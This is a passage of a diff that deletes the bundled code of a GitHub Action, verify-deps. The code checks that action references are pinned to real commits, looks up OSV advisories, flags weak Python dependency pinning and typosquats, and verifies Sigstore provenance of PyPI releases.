-        remediation: 'Check the name. If it is the intended package, add it to `typosquat-allow` in the policy.',
-        spec: ['S8-9']
-    },
-    PY_COOLDOWN: {
-        id: 'python/cooldown',
-        title: 'Locked release is younger than the cooldown',
-        severity: 'medium',
-        why: 'Most malicious releases are found and removed within hours or days; waiting a few days before adopting a release keeps them out (the compromised Ultralytics releases were up for 1 to 12 hours).',
-        remediation: "Lock an older release, or wait until the release is older than the policy's `cooldown-days`.",
-        spec: ['S8-9']
-    }
-});
-const src_rules_REGISTRY = new RuleRegistry('verify-deps', rulesOf(src_rules_RULES));
-
-;// CONCATENATED MODULE: ./actions/verify-deps/src/actions.ts
-// Checks of GitHub Actions references: the form of every `uses:` (offline),
-// then through the GitHub API the version comment, whether the commit belongs
-// to the named repository, known-compromised commits and unpinned actions
-// nested in pinned composite actions.
-
-
-
-const shortRef = (u) => `${u.owner}/${u.repo}${u.path ? `/${u.path}` : ''}`;
-const locOf = (u) => ({ file: u.file, line: u.line, column: u.column });
-function parseActionFiles(files) {
-    const refs = [];
-    const errors = [];
-    for (const f of files) {
-        try {
-            refs.push(...findUses(yaml_parseYamlFile(f.text, f.path)));
-        }
-        catch (e) {
-            errors.push(oneLine(e));
-        }
-    }
-    return { refs, errors };
-}
-/** Form of each reference: full SHA or digest, a version comment; tags allowed per owner by policy. */
-function checkActionForm(refs, policy) {
-    const findings = [];
-    for (const u of refs) {
-        if (u.kind === 'local')
-            continue; // same repository, same commit: nothing to pin
-        const location = locOf(u);
-        if (u.kind === 'docker') {
-            if (!u.ref)
-                findings.push(createFinding(src_rules_RULES.UNPINNED_DOCKER, {
-                    message: `\`${u.raw}\` names a mutable image tag.`,
-                    location,
-                    evidence: u.raw
-                }));
-            continue;
-        }
-        if (!u.ref || !FULL_SHA.test(u.ref)) {
-            const what = !u.ref
-                ? 'has no ref at all'
-                : /^[0-9a-f]{7,39}$/.test(u.ref)
-                    ? `uses a short SHA (${u.ref}), which can collide with a commit pushed to a fork`
-                    : `uses the mutable ref \`${u.ref}\``;
-            const allowed = u.ref && !/^[0-9a-f]{7,39}$/.test(u.ref)
-                ? policy.allowTags.find((a) => a.owner === u.owner?.toLowerCase())
-                : undefined;
-            findings.push(createFinding(src_rules_RULES.UNPINNED_ACTION, {
-                severity: allowed?.severity,
-                message: `\`${shortRef(u)}\` ${what}.${allowed ? ` The policy allows tags for ${u.owner}, so this is reported at ${allowed.severity}.` : ''}`,
-                location,
-                evidence: u.raw,
-                properties: { package: `${u.owner}/${u.repo}`.toLowerCase() }
-            }));
-        }
-        else if (!u.comment) {
-            findings.push(createFinding(src_rules_RULES.NO_VERSION_COMMENT, {
-                message: `\`${u.raw}\` has no version comment.`,
-                location,
-                evidence: u.raw
-            }));
-        }
-    }
-    return findings;
-}
-/** The version a comment names: `v4.2.2`, `4.2.2`, `tag=v1` or `pin @v2`; undefined for free text. */
-function commentVersion(comment) {
-    if (!comment)
-        return undefined;
-    const m = /^(?:tag[=:]\s*|pin\s*@?|@)?(v?\d+(?:\.\d+)*(?:[-+.][0-9A-Za-z.-]+)?)\b/.exec(comment.trim());
-    return m?.[1];
-}
-/**
- * Online checks for SHA-pinned references. Every repository is asked once for
- * its refs; compares stop at the first branch or tag that contains the commit.
- */
-async function checkActionsOnline(refs, api, opts) {
-    const findings = [];
-    const notChecked = [];
-    const versions = new Map();
-    const pinned = refs.filter((u) => (u.kind === 'action' || u.kind === 'reusable-workflow') && u.ref && FULL_SHA.test(u.ref));
-    const repoRefs = new Map();
-    const reach = new Map();
-    const refsOf = (o, r) => {
-        const k = `${o}/${r}`.toLowerCase();
-        if (!repoRefs.has(k))
-            repoRefs.set(k, api.refs(o, r));
-        return repoRefs.get(k);
-    };
-    for (const u of pinned) {
-        const owner = u.owner;
-        const repo = u.repo;
-        const sha = u.ref;
-        const key = `${owner}/${repo}@${sha}`.toLowerCase();
-        const location = locOf(u);
-        const ioc = findIoc(owner, repo, sha);
-        if (ioc)
-            findings.push(createFinding(src_rules_RULES.COMPROMISED_ACTION, {
-                message: `\`${shortRef(u)}@${sha}\` is ${ioc.what}.`,
-                location,
-                evidence: u.raw,
-                key,
-                properties: { package: `${owner}/${repo}`.toLowerCase(), reference: ioc.reference }
-            }));
-        let info;
-        try {
-            info = await refsOf(owner, repo);
-        }
-        catch (e) {
-            notChecked.push({
-                check: 'actions/impostor-commit',
-                target: `${owner}/${repo}`,
-                reason: `could not list branches and tags: ${oneLine(e)}`
-            });
-            continue;
-        }
-        const tagsHere = info.tags.filter((t) => t.sha === sha).map((t) => t.name);
-        versions.set(key, tagsHere);
-        const version = commentVersion(u.comment);
-        if (version) {
-            const tag = info.tags.find((t) => t.name === version) ??
-                info.tags.find((t) => t.name === `v${version}` || `v${t.name}` === version);
-            if (!tag || tag.sha !== sha) {
-                const floating = /^v?\d+$/.test(version);
-                findings.push(createFinding(src_rules_RULES.VERSION_MISMATCH, {
-                    severity: floating && tag ? 'info' : undefined,
-                    message: !tag
-                        ? `The comment says ${version}, but ${owner}/${repo} has no tag ${version}${tagsHere.length ? `; the SHA is ${tagsHere.join(', ')}` : ''}.`
-                        : `The comment says ${version}, but tag ${tag.name} points to ${tag.sha.slice(0, 12)}, not ${sha.slice(0, 12)}${tagsHere.length ? ` (which is ${tagsHere.join(', ')})` : ''}.${floating ? ' A floating major tag moves with each release; name the exact release in the comment.' : ''}`,
-                    location,
-                    evidence: u.raw,
-                    key: `${key}#${version}`,
-                    properties: { package: `${owner}/${repo}`.toLowerCase(), comment: version, tagSha: tag?.sha }
-                }));
-            }
-        }
-        if (!reach.has(key))
-            reach.set(key, reachability(api, owner, repo, sha, info, opts.maxCompares ?? 20));
-        let state;
-        try {
-            state = await reach.get(key);
-        }
-        catch (e) {
-            notChecked.push({
-                check: 'actions/impostor-commit',
-                target: `${owner}/${repo}@${sha}`,
-                reason: `could not compare the commit with the repository's branches: ${oneLine(e)}`
-            });
-            state = 'unknown';
-        }
-        if (state === 'impostor' || state === 'missing') {
-            findings.push(createFinding(src_rules_RULES.IMPOSTOR_COMMIT, {
-                message: state === 'missing'
-                    ? `${sha} does not exist in ${owner}/${repo} or its forks.`
-                    : `${sha} is not reachable from any branch or tag of ${owner}/${repo}: it lives only in a fork (or was force-pushed away).`,
-                location,
-                evidence: u.raw,
-                key,
-                properties: { package: `${owner}/${repo}`.toLowerCase() }
-            }));
-            continue; // an impostor's action.yml is not the action's: do not descend
-        }
-        if (opts.nested && u.kind === 'action' && state === 'reachable') {
-            try {
-                findings.push(...(await nestedFindings(api, u)));
-            }
-            catch (e) {
-                notChecked.push({
-                    check: 'actions/nested-unpinned',
-                    target: `${shortRef(u)}@${sha}`,
-                    reason: `could not read its action.yml: ${oneLine(e)}`
-                });
-            }
-        }
-    }
-    return { findings, notChecked, versions };
-}
-async function reachability(api, owner, repo, sha, info, maxCompares) {
-    if (info.branches.some((b) => b.sha === sha) || info.tags.some((t) => t.sha === sha))
-        return 'reachable';
-    // Default branch first, then the other branches, then tags (newest names last in GitHub's order, so reverse).
-    const candidates = [
-        ...info.branches.filter((b) => b.name === info.defaultBranch),
-        ...info.branches.filter((b) => b.name !== info.defaultBranch),
-        ...[...info.tags].reverse()
-    ];
-    for (const c of candidates.slice(0, maxCompares)) {
-        const status = await api.compare(owner, repo, c.sha, sha);
-        if (status === 'missing')
-            return 'missing';
-        if (status === 'behind' || status === 'identical')
-            return 'reachable';
-    }
-    if (candidates.length > maxCompares)
-        throw new Error(`not found on the first ${maxCompares} of ${candidates.length} branches and tags`);
-    return 'impostor';
-}
-async function nestedFindings(api, u) {
-    const dir = u.path ? `${u.path}/` : '';
-    const text = (await api.file(u.owner, u.repo, `${dir}action.yml`, u.ref)) ??
-        (await api.file(u.owner, u.repo, `${dir}action.yaml`, u.ref));
-    if (text === undefined)
-        return [];
-    const name = `${shortRef(u)}@${u.ref.slice(0, 12)}/${dir}action.yml`;
-    const inner = findUses(yaml_parseYamlFile(text, name));
-    const out = [];
-    for (const n of inner) {
-        if (n.kind === 'local' || (n.kind === 'docker' && n.ref) || (n.ref && FULL_SHA.test(n.ref)))
-            continue;
-        out.push(createFinding(src_rules_RULES.NESTED_UNPINNED, {
-            message: `\`${shortRef(u)}\` (pinned) runs \`${n.raw}\` at line ${n.line} of its action.yml, which is not pinned to a commit.`,
-            location: locOf(u),
-            evidence: n.raw,
-            key: `${shortRef(u)}@${u.ref}>${n.raw}`,
-            properties: { package: `${u.owner}/${u.repo}`.toLowerCase(), nested: n.raw }
-        }));
-    }
-    return out;
-}
-
-// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/index.js
-var pep440 = __nccwpck_require__(8898);
-;// CONCATENATED MODULE: ./actions/verify-deps/src/versions.ts
-// Version ordering for advisory ranges: PEP 440 for PyPI (through the
-// maintained @renovatebot/pep440 `compare`, which agrees with packaging on
-// its ordering vectors; its `satisfies` does not, so it is not used), and
-// OSV's lenient SemVer for GitHub Actions tags.
-
-function isPep440(v) {
-    return (0,pep440.valid)(v) !== null;
-}
-const comparePep440 = (a, b) => (0,pep440.compare)(a, b);
-function parseSemver(v) {
-    const m = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?(?:-([0-9A-Za-z.-]+))?(?:\+[0-9A-Za-z.-]+)?$/.exec(v.trim());
-    if (!m)
-        return undefined;
-    return { nums: [Number(m[1]), Number(m[2] ?? 0), Number(m[3] ?? 0)], pre: m[4] ? m[4].split('.') : [] };
-}
-const isSemverish = (v) => parseSemver(v) !== undefined;
-/** SemVer 2.0 precedence, accepting a leading `v` and short versions (`v1.2` = 1.2.0) as OSV does. */
-const compareSemver = (a, b) => {
-    const x = parseSemver(a);
-    const y = parseSemver(b);
-    if (!x || !y)
-        throw new Error(`not a version: ${!x ? a : b}`);
-    for (let i = 0; i < 3; i++)
-        if (x.nums[i] !== y.nums[i])
-            return x.nums[i] - y.nums[i];
-    if (!x.pre.length || !y.pre.length)
-        return (x.pre.length ? -1 : 0) + (y.pre.length ? 1 : 0);
-    for (let i = 0; i < Math.max(x.pre.length, y.pre.length); i++) {
-        const p = x.pre[i];
-        const q = y.pre[i];
-        if (p === undefined)
-            return -1;
-        if (q === undefined)
-            return 1;
-        const pn = /^\d+$/.test(p);
-        const qn = /^\d+$/.test(q);
-        if (pn && qn && Number(p) !== Number(q))
-            return Number(p) - Number(q);
-        if (pn !== qn)
-            return pn ? -1 : 1;
-        if (p !== q)
-            return p < q ? -1 : 1;
-    }
-    return 0;
-};
-
-;// CONCATENATED MODULE: ./actions/verify-deps/src/osv.ts
-// OSV: one querybatch per 1000 packages (pages followed per query), then each
-// distinct advisory fetched once and evaluated here. Records are read
-// defensively: a malformed one makes that advisory "not checked" for the
-// packages it names, never "not affected".
-
-
-const BATCH_SIZE = 1000;
-class OsvClient {
-    baseUrl;
-    http;
-    constructor(baseUrl, http) {
-        this.baseUrl = baseUrl;
-        this.http = http ?? new HttpClient('OSV');
-    }
-    /** Ids of the advisories each target may be affected by (aligned with `targets`). */
-    async queryBatch(targets) {
-        const ids = targets.map(() => []);
-        for (let start = 0; start < targets.length; start += BATCH_SIZE) {
-            let pending = targets
-                .slice(start, start + BATCH_SIZE)
-                .map((t, i) => ({ index: start + i, query: queryFor(t) }));
-            while (pending.length) {
-                const res = await this.http.json(`${this.baseUrl}/v1/querybatch`, {
-                    body: { queries: pending.map((p) => p.query) }
-                });
-                const results = res.body?.results;
-                // An empty batch result is `{}` (protobuf JSON omits empty lists); anything else must align.
-                if (results === undefined && res.body && Object.keys(res.body).length === 0)
-                    break;
-                if (!Array.isArray(results) || results.length !== pending.length)
-                    throw new ServiceError(`OSV querybatch returned ${Array.isArray(results) ? results.length : 'no'} results for ${pending.length} queries`);
-                const next = [];
-                results.forEach((r, i) => {
-                    const entry = (r ?? {});
-                    for (const v of Array.isArray(entry.vulns) ? entry.vulns : [])
-                        if (typeof v?.id === 'string')
-                            ids[pending[i].index].push(v.id);
-                    if (typeof entry.next_page_token === 'string' && entry.next_page_token)
-                        next.push({ index: pending[i].index, query: { ...pending[i].query, page_token: entry.next_page_token } });
-                });
-                pending = next;
-            }
-        }
-        return ids.map((l) => [...new Set(l)]);
-    }
-    async record(id) {
-        const res = await this.http.json(`${this.baseUrl}/v1/vulns/${encodeURIComponent(id)}`);
-        const body = res.body;
-        if (!body || typeof body !== 'object' || typeof body.id !== 'string')
-            throw new ServiceError(`OSV record ${id} is not an OSV object`);
-        return body;
-    }
-}
-function queryFor(t) {
-    // PyPI: OSV matches the version server-side. GitHub Actions: ask for every
-    // record of the action and evaluate tags here (OSV's handling of action
-    // versions is unverified, see the research note).
-    if (t.ecosystem === 'PyPI' && t.versions.length === 1)
-        return { package: { name: t.name, ecosystem: t.ecosystem }, version: t.versions[0] };
-    return { package: { name: t.name, ecosystem: t.ecosystem } };
-}
-/** Looks every target up and evaluates the records. Throws ServiceError when the batch itself fails. */
-async function lookupVulnerabilities(client, targets, concurrency = 16) {
-    const idLists = await client.queryBatch(targets);
-    const distinct = [...new Set(idLists.flat())];
-    const records = new Map();
-    await mapLimit(distinct, concurrency, async (id) => {
-        try {
-            records.set(id, await client.record(id));
-        }
-        catch (e) {
-            records.set(id, e);
-        }
-    });
-    const hits = [];
-    const problems = [];
-    targets.forEach((t, i) => {
-        const reported = new Set();
-        for (const id of idLists[i]) {
-            const rec = records.get(id);
-            if (rec instanceof Error) {
-                problems.push({ target: t, reason: `advisory ${id} could not be fetched: ${rec.message}` });
-                continue;
-            }
-            if (rec.withdrawn)
-                continue;
-            if (reported.has(rec.id) || (rec.aliases ?? []).some((a) => reported.has(a)))
-                continue;
-            const verdict = evaluate(rec, t);
-            if (verdict.problem)
-                problems.push({ target: t, reason: `${rec.id}: ${verdict.problem}` });
-            for (const h of verdict.hits)
-                hits.push({ target: t, version: h.version, record: rec, fixed: h.fixed });
-            if (verdict.hits.length) {
-                reported.add(rec.id);
-                for (const a of rec.aliases ?? [])
-                    reported.add(a);
-            }
-        }
-    });
-    return { hits, problems, advisories: distinct.length };
-}
-/** Evaluates one record for one target (osv-schema "Evaluation"), tolerating malformed parts. */
-function evaluate(rec, t) {
-    const order = t.ecosystem === 'PyPI' ? comparePep440 : compareSemver;
-    const validVersion = t.ecosystem === 'PyPI' ? isPep440 : isSemverish;
-    const samePackage = (p) => {
-        const eco = String(p.ecosystem ?? '');
-        if (eco !== t.ecosystem && !eco.startsWith(`${t.ecosystem}:`))
-            return false;
-        const name = String(p.name ?? '');
-        return t.ecosystem === 'PyPI' ? types_normalizeName(name) === t.name : name.toLowerCase() === t.name;
-    };
-    const affected = (Array.isArray(rec.affected) ? rec.affected : []).filter((a) => !!a &&
-        typeof a === 'object' &&
-        !!a.package &&
-        samePackage(a.package));
-    if (!affected.length)
-        return { hits: [], problem: Array.isArray(rec.affected) ? undefined : 'the record has no affected packages' };
-    if (!t.versions.length)
-        return {
-            hits: [],
-            problem: 'the pinned commit carries no release tag, so the advisory cannot be matched to a version'
-        };
-    const out = { hits: [] };
-    const problems = [];
-    for (const version of t.versions) {
-        if (!validVersion(version)) {
-            problems.push(`version ${version} cannot be ordered`);
-            continue;
-        }
-        let hit = false;
-        const fixed = [];
-        let evaluable = false;
-        for (const a of affected) {
-            const listed = Array.isArray(a.versions) ? a.versions.filter((v) => typeof v === 'string') : [];
-            if (listed.some((v) => v === version || (validVersion(v) && order(v, version) === 0)))
-                hit = true;
-            if (listed.length)
-                evaluable = true;
-            for (const r of Array.isArray(a.ranges) ? a.ranges : []) {
-                const range = r;
-                if (range.type !== 'ECOSYSTEM' && range.type !== 'SEMVER')
-                    continue; // GIT ranges need the commit graph
-                const events = (Array.isArray(range.events) ? range.events : []).filter((e) => !!e &&
-                    typeof e === 'object' &&
-                    Object.keys(e).length === 1 &&
-                    ['introduced', 'fixed', 'last_affected', 'limit'].some((k) => typeof e[k] === 'string'));
-                const value = (e) => (e.introduced ?? e.fixed ?? e.last_affected ?? e.limit);
-                const bad = events.find((e) => !(e.introduced === '0' || e.limit === '*' || validVersion(value(e))));
-                if (bad) {
-                    problems.push(`range event ${JSON.stringify(bad)} is not a valid version`);
-                    continue;
-                }
-                if (!events.length)
-                    continue;
-                evaluable = true;
-                const rank = (e) => (e.introduced === '0' ? -Infinity : e.limit === '*' ? Infinity : 0);
-                const sorted = [...events].sort((x, y) => rank(x) - rank(y) || (rank(x) === 0 && rank(y) === 0 ? order(value(x), value(y)) : 0));
-                let state = false;
-                for (const e of sorted) {
-                    if (e.introduced !== undefined) {
-                        if (e.introduced === '0' || order(version, e.introduced) >= 0)
-                            state = true;
-                    }
-                    else if (e.fixed !== undefined) {
-                        if (order(version, e.fixed) >= 0)
-                            state = false;
-                        else if (state)
-                            fixed.push(e.fixed);
-                    }
-                    else if (e.last_affected !== undefined) {
-                        if (order(version, e.last_affected) > 0)
-                            state = false;
-                    }
-                    else if (e.limit !== undefined && e.limit !== '*' && order(version, e.limit) >= 0)
-                        state = false;
-                }
-                if (state)
-                    hit = true;
-            }
-        }
-        if (hit)
-            out.hits.push({ version, fixed: [...new Set(fixed)] });
-        else if (!evaluable)
-            problems.push(`no version list or evaluable range for ${t.name}`);
-    }
-    if (problems.length && !out.hits.length)
-        out.problem = problems[0];
-    return out;
-}
-/** GHSA's database_specific.severity mapped to ours; undefined when absent. */
-function advisorySeverity(rec) {
-    const s = String(rec.database_specific?.severity ?? '').toUpperCase();
-    return { LOW: 'low', MODERATE: 'medium', MEDIUM: 'medium', HIGH: 'high', CRITICAL: 'critical' }[s];
-}
-
-;// CONCATENATED MODULE: ./actions/verify-deps/src/python.ts
-// Offline checks of Python dependency files: pinning, hashes, VCS refs, URL
-// and path dependencies, extra indexes, a missing lock, and typosquats.
-
-
-const loc = (d) => ({ file: d.file, line: d.line });
-const label = (d) => `\`${d.rawName}${d.specifier ? ` ${d.specifier}` : ''}\``;
-/** Is this manifest an input file whose ranges are meant to be resolved elsewhere (pyproject, requirements.in)? */
-const isInputFile = (m) => m.kind === 'pyproject' || /\.in$/.test(m.file);
-function sourceFindings(d, out) {
-    if (d.vcs) {
-        if (!d.vcs.commit) {
-            const what = d.vcs.ref ? `the ref \`${d.vcs.ref}\`, which can move` : 'no ref at all (the default branch)';
-            out.push(createFinding(src_rules_RULES.PY_VCS_UNPINNED, {
-                message: `${d.rawName} is installed from ${d.vcs.url} at ${what}.`,
-                location: loc(d),
-                key: `${d.name}:${d.vcs.url}`,
-                properties: { package: d.name }
-            }));
-        }
-        return true;
-    }
-    if (d.url || d.path) {
-        if (d.path || !d.hashes.length) {
-            const what = d.path ? `the local path \`${d.path}\`` : `the URL ${d.url} without a hash`;
-            if (!(d.editable && d.path && d.source !== 'requirements' && d.source !== 'environment-yml')) {
-                out.push(createFinding(src_rules_RULES.PY_URL_DEPENDENCY, {
-                    message: `${d.rawName} is installed from ${what}.`,
-                    location: loc(d),
-                    key: `${d.name}:${d.url ?? d.path}`,
-                    properties: { package: d.name }
-                }));
-            }
-        }
-        return true;
-    }
-    return false;
-}
-/** Pinning and hash findings of one manifest. */
-function checkPinning(m) {
-    const out = [];
-    for (const o of m.options) {
-        if (o.option === '--extra-index-url') {
-            out.push(createFinding(src_rules_RULES.PY_EXTRA_INDEX, {
-                message: `\`--extra-index-url ${o.value}\` adds a second index; pip takes the highest version found on any of them.`,
-                location: { file: m.file, line: o.line },
-                evidence: `--extra-index-url ${o.value}`,
-                key: o.value
-            }));
-        }
-    }
-    if (m.lock) {
-        for (const d of m.dependencies) {
-            if (sourceFindings(d, out))
-                continue;
-            const unhashed = (d.files ?? []).filter((f) => !f.hashes.length);
-            if (!d.files?.length || unhashed.length) {
-                const what = !d.files?.length
-                    ? 'no files with hashes'
-                    : `${unhashed.length} file(s) without a hash (${unhashed
-                        .map((f) => f.filename ?? f.url)
-                        .slice(0, 3)
-                        .join(', ')})`;
-                out.push(createFinding(src_rules_RULES.PY_MISSING_HASHES, {
-                    message: `${d.rawName} ${d.version ?? ''} is locked with ${what}.`,
-                    location: loc(d),
-                    key: d.name,
-                    properties: { package: d.name }
-                }));
-            }
-        }
-        return out;
-    }
-    const input = isInputFile(m);
-    const requireHashes = m.options.some((o) => o.option === '--require-hashes') || m.dependencies.some((d) => d.hashes.length);
-    let pinnedWithoutHash = 0;
-    for (const d of m.dependencies) {
-        if (sourceFindings(d, out) || input)
-            continue;
-        if (!d.version) {
-            out.push(createFinding(src_rules_RULES.PY_UNPINNED, {
-                message: `${label(d)} is not pinned to one version${d.specifier ? '' : ' (no version at all)'}.`,
-                location: loc(d),
-                key: d.name,
-                properties: { package: d.name }
-            }));
-        }
-        if (!d.hashes.length) {
-            if (requireHashes) {
-                out.push(createFinding(src_rules_RULES.PY_MISSING_HASHES, {
-                    severity: 'high',
-                    message: `${label(d)} has no \`--hash\` while other requirements in this file do: pip's hash-checking mode then refuses the whole install, or (if hashes are dropped to make it work) checks nothing.`,
-                    location: loc(d),
-                    key: d.name,
-                    properties: { package: d.name }
-                }));
-            }
-            else if (d.version)
-                pinnedWithoutHash++;
-        }
-    }
-    if (pinnedWithoutHash && !requireHashes) {
-        const first = m.dependencies.find((d) => d.version && !d.hashes.length);
-        out.push(createFinding(src_rules_RULES.PY_MISSING_HASHES, {
-            message: `None of the ${pinnedWithoutHash} pinned requirements in ${m.file} has a \`--hash\`.`,
-            location: loc(first),
-            key: `${m.file}:no-hashes`
-        }));
-    }
-    return out;
-}
-/** A project that declares dependencies in pyproject.toml but commits no lock of any kind. */
-function checkNoLock(manifests) {
-    const hasLock = manifests.some((m) => m.lock ||
-        (m.kind === 'requirements' &&
-            !/\.in$/.test(m.file) &&
-            m.dependencies.length > 0 &&
-            m.dependencies.every((d) => d.version || d.vcs?.commit)));
-    if (hasLock)
-        return [];
-    return manifests
-        .filter((m) => m.kind === 'pyproject' && m.dependencies.some((d) => d.group !== 'build-system'))
-        .map((m) => createFinding(src_rules_RULES.PY_NO_LOCK, {
-        message: `${m.file} declares ${m.dependencies.length} dependencies but the repository has no lock file (uv.lock, poetry.lock, pylock.toml or hashed requirements).`,
-        location: { file: m.file, line: 1 },
-        key: m.file
-    }));
-}
-/** Typosquat candidates among direct dependencies. */
-function checkTyposquats(manifests, policy) {
-    const out = [];
-    const seen = new Set();
-    for (const m of manifests) {
-        for (const d of m.dependencies) {
-            if (!d.direct || d.url || d.path || policy.typosquatAllow.has(d.name) || seen.has(`${d.file}:${d.name}`))
-                continue;
-            seen.add(`${d.file}:${d.name}`);
-            const hit = findTyposquat(d.name);
-            if (!hit)
-                continue;
-            out.push(createFinding(src_rules_RULES.PY_TYPOSQUAT, {
-                confidence: 'medium',
-                message: `\`${d.rawName}\` is one ${hit.kind.replace(/-/g, ' ')} away from the popular package \`${hit.target}\`.`,
-                location: loc(d),
-                key: d.name,
-                properties: { package: d.name, target: hit.target, kind: hit.kind, distance: hit.distance }
-            }));
-        }
-    }
-    return out;
-}
-/** conda packages have no advisory ecosystem: say so in the report instead of staying silent. */
-function condaNotCovered(manifests) {
-    return manifests
-        .filter((m) => m.condaPackages?.length)
-        .map((m) => `${m.file}: ${m.condaPackages.length} conda package(s) are not covered by verify-deps (OSV has no conda ecosystem); only the pip: part is checked.`);
-}
-
-;// CONCATENATED MODULE: ./actions/verify-deps/src/provenance.ts
-// PEP 740 provenance of locked files: each Integrity API attestation becomes
-// a Sigstore bundle, verified once against the trusted root (built once per
-// run) for the exact file digest, and its signer compared, anchored, with the
-// expected Trusted Publisher.
-
-
-
-const GITLAB_OIDC_ISSUER = 'https://gitlab.com';
-const IN_TOTO = 'application/vnd.in-toto+json';
-/** pypi-attestations' conversion: certificate, first log entry and DSSE envelope → a v0.3 bundle. */
-function attestationToBundle(a) {
-    const vm = a?.verification_material;
-    if (!vm ||
-        typeof vm.certificate !== 'string' ||
-        !Array.isArray(vm.transparency_entries) ||
-        !vm.transparency_entries.length ||
-        typeof a.envelope?.statement !== 'string' ||
-        typeof a.envelope?.signature !== 'string') {
-        throw new BundleVerificationError('malformed attestation: certificate, transparency entry or envelope missing');
-    }
-    return {
-        mediaType: 'application/vnd.dev.sigstore.bundle.v0.3+json',
-        verificationMaterial: { certificate: { rawBytes: vm.certificate }, tlogEntries: [vm.transparency_entries[0]] },
-        dsseEnvelope: {
-            payload: a.envelope.statement,
-            payloadType: IN_TOTO,
-            signatures: [{ sig: a.envelope.signature, keyid: '' }]
-        }
-    };
-}
-/** The signer a certificate names: SAN and OIDC issuer (Fulcio extension 1.8, else the legacy 1.1). */
-function signerOf(certB64) {
-    const cert = core_dist.X509Certificate.parse(Buffer.from(certB64, 'base64'));
-    const extensions = fulcioExtensions(cert);
-    const legacyIssuer = cert.extension('1.3.6.1.4.1.57264.1.1')?.value.toString('utf8');
-    return { identity: cert.subjectAltName ?? '', issuer: extensions['1.8'] ?? legacyIssuer ?? '', extensions };
-}
-/**
- * Does the certificate identity belong to the expected publisher? Anchored
- * comparisons only: GitHub's SAN is exactly
- * `https://github.com/<repository>/.github/workflows/<workflow>@<ref>`, GitLab's
- * `https://gitlab.com/<project>//<path>@<ref>`. The repository is compared
- * case-insensitively (GitHub and GitLab names are); the workflow exactly.
- */
-function publisherMatches(expected, signer) {
-    const kind = expected.kind.toLowerCase();
-    const repo = (expected.repository ?? '').toLowerCase();
-    if (kind === 'github') {
-        if (signer.issuer !== GITHUB_OIDC_ISSUER)
-            return `issuer ${signer.issuer} is not GitHub Actions`;
-        const m = /^https:\/\/github\.com\/([^/]+\/[^/]+)\/\.github\/workflows\/([^/@]+)@(.+)$/.exec(signer.identity);
-        if (!m)
-            return `identity ${signer.identity} is not a GitHub workflow identity`;
-        if (m[1].toLowerCase() !== repo)
-            return `signed by repository ${m[1]}, expected ${expected.repository}`;
-        if (expected.workflow && m[2] !== expected.workflow)
-            return `signed by workflow ${m[2]}, expected ${expected.workflow}`;
-        const env = signer.extensions['1.22'];
-        if (expected.environment && env !== expected.environment)
-            return `signed in environment ${env ?? '(none)'}, expected ${expected.environment}`;
-        return undefined;
-    }
-    if (kind === 'gitlab') {
-        if (signer.issuer !== GITLAB_OIDC_ISSUER)
-            return `issuer ${signer.issuer} is not GitLab`;
-        const m = /^https:\/\/gitlab\.com\/(.+?)\/\/(.+)@(.+)$/.exec(signer.identity);
-        if (!m)
-            return `identity ${signer.identity} is not a GitLab CI identity`;
-        if (m[1].toLowerCase() !== repo)
-            return `signed by project ${m[1]}, expected ${expected.repository}`;
-        if (expected.workflow && m[2] !== expected.workflow)
-            return `signed by CI file ${m[2]}, expected ${expected.workflow}`;
-        return undefined;
-    }
-    return `publisher kind ${expected.kind} is not supported`;
-}
-/** What the Integrity API claims (unsigned), as an expected publisher for trust on first use: it must name a repository. */
-function claimedPublisher(p) {
-    const claimed = trustedPublisher(p);
-    return claimed?.repository === undefined ? undefined : claimed;
-}
-/**
- * Verifies a file's provenance. Every attestation must verify; the signer must
- * match one of `expected` (policy or pylock), or, with none given, the
- * publisher the Integrity API claims.
- */
-function provenance_verifyProvenance(verifier, prov, file, expected) {
-    let identity = '';
-    let count = 0;
-    for (const b of prov.attestation_bundles) {
-        const wanted = expected.length
-            ? expected
-            : [claimedPublisher(b.publisher)].filter((x) => !!x);
-        for (const a of Array.isArray(b.attestations) ? b.attestations : []) {
-            count++;
-            let signer;
-            try {
-                signer = signerOf(a.verification_material?.certificate);
-            }
-            catch (e) {
-                return { status: 'invalid', reason: `unreadable certificate (${e.message.split('\n')[0]})` };
-            }
-            // Signature, log entry and subject first: a forged attestation is "invalid", whoever it names.
-            try {
-                const v = verifier.verify(attestationToBundle(a), { digest: `sha256:${file.sha256}`, name: file.filename }, { identity: signer.identity, issuer: signer.issuer });
-                const problems = v.statement
-                    ? checkSubjects(v.statement, [{ name: file.filename, sha256: file.sha256 }])
-                    : ['the attestation carries no in-toto statement'];
-                if (problems.length)
-                    return { status: 'invalid', reason: problems[0] };
-            }
-            catch (e) {
-                return { status: 'invalid', reason: e.message.split('\n')[0] };
-            }
-            const mismatches = wanted.map((w) => publisherMatches(w, signer));
-            if (!wanted.length || mismatches.every((m) => m !== undefined)) {
-                return {
-                    status: 'publisher-mismatch',
-                    identity: signer.identity,
-                    reason: mismatches[0] ?? 'no publisher to compare with'
-                };
-            }
-            identity = signer.identity;
-        }
-    }
-    if (!count)
-        return { status: 'invalid', reason: 'the provenance object holds no attestation' };
-    return { status: 'verified', identity };
-}
-/** The in-thread checker: one verifier, built once. */
-function inThreadChecker(verifier) {
-    return { builds: 1, verify: async (prov, file, expected) => provenance_verifyProvenance(verifier, prov, file, expected) };
-}
-
-;// CONCATENATED MODULE: ./actions/verify-deps/src/releases.ts
-// Checks of locked releases against PyPI: yanked, younger than the cooldown,
-// and PEP 740 provenance (missing, lost since the previous release, invalid,
-// or from another publisher). The Simple API is read once per project; the
-// Sigstore trust material is built at most once per run, and only when a
-// locked file has provenance to verify.
-
-
-
-
-const depLocation = (d) => ({ file: d.file, line: d.line });
-/** The PyPI checks of registry pins; every failure to read or verify is "not checked" for its target. */
-async function checkPyPI(pins, manifests, opts, services, wants) {
-    const findings = [];
-    const notChecked = [];
-    const pypi = services.pypi;
-    const identities = {};
-    for (const m of manifests)
-        for (const [k, v] of Object.entries(m.attestationIdentities ?? {}))
-            identities[k] = v;
-    let verifier;
-    let verifierError;
-    const getVerifier = () => (verifier ??= services.verifier ? services.verifier() : Promise.reject(new Error('no Sigstore trusted root')));
-    const projects = new Map();
-    const project = (name) => {
-        if (!projects.has(name))
-            projects.set(name, pypi.simple(name));
-        return projects.get(name);
-    };
-    await mapLimit(pins, opts.concurrency ?? 16, async (pin) => {
-        const d = pin.deps.find((x) => !x.vcs && !x.url && !x.path) ?? pin.deps[0];
-        const target = `${pin.name}==${pin.version}`;
-        let proj;
